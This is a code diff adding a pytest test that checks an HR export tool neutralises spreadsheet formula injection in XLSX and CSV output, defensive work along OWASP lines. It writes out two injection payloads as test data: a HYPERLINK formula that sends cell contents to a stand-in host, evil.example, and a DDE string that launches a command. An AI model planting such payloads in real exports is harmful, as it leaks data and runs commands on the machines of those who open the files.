@@ -219,3 +219,37 @@ def test_redacted_audio_silences_the_spoken_number(tmp_path, scorer):
     assert got_rate == rate and data.shape == (6 * rate, 2)
     assert np.abs(data[int(2.0 * rate): int(4.0 * rate)]).max() == 0
     assert np.abs(data[int(0.5 * rate): int(1.5 * rate)]).max() > 0.2
+
+
+def test_formula_like_text_is_never_a_live_formula(store_copy, tmp_path):
+    """HR opens these files: =HYPERLINK(…), +, -, @ in a name or team are shown as text (OWASP)."""
+    import zipfile
+
+    evil = {"agent_name": '=HYPERLINK("http://evil.example/?leak="&A1,"点击")', "team": "+cmd|' /C calc'!A0"}
+    with sqlite3.connect(store_copy) as conn:
+        conn.execute("UPDATE calls SET agent_name = ?, team = ?", (evil["agent_name"], evil["team"]))
+    xlsx, csv_path = tmp_path / "hr.xlsx", tmp_path / "hr.csv"
+    assert cli("export", "--db", store_copy, "--period", "2026-11", "-o", xlsx).returncode == 0
+    assert cli("export", "--db", store_copy, "--period", "2026-11", "-o", csv_path).returncode == 0
+    with zipfile.ZipFile(xlsx) as z:
+        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
+    assert any("HYPERLINK" in s for s in sheets)          # the text is there, as text
+    import openpyxl
+
+    wb = openpyxl.load_workbook(xlsx)
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
+    for path in (csv_path, csv_path.with_name("hr-calls.csv")):
+        rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
+        values = [v for row in rows[1:] for v in row]
+        assert not any(v.startswith(("=", "+", "-", "@")) for v in values if v and not _number(v)), path
+        assert any(v.startswith("'=HYPERLINK") for v in values) and any(v.startswith("'+cmd") for v in values)
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+        return True
+    except ValueError:
+        return False
